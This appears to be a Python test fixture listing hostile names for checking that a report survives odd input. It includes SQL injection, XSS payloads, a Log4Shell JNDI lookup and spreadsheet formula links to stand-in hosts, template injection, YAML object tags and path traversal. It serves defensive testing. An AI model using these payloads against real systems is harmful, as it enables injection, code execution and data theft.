"""Names that a cluster may hold and a report must survive: markup, formulas, control characters, endless ones."""

HOSTILE = (
    "'", '"', "\\", "a\nb", "a\rb", "a\x00b", "a\tb", "\u202eevil", "👩\u200d👩\u200d👧", "x" * 10_000, "null", "NaN", "1e5",
    "yes", '=HYPERLINK("http://evil","x")', "+1", "-1", "@SUM(A1)", "../../etc/passwd", "/", "..", ".", "CON",
    "'; DROP TABLE charges;--", "</script><img src=http://evil.invalid/x onerror=alert(1)>", "<svg onload=alert(1)>",
    "${jndi:ldap://evil.invalid}", "{{7*7}}", "{% raw %}", "%s", "<!channel>", "<http://evil.invalid|click>", "*bold*",
    "`code`", "]]>", "&lt;", "&a", "!!python/object", "key: value", "# heading", "  spaces", r"$\frac{1}{2}$", "a|b",
    "[x](http://evil.invalid)", "a\u200bb", "a\u2028b", "var(--used)", "#010101", "-->", "</style>", "</title>",
)  # fmt: skip
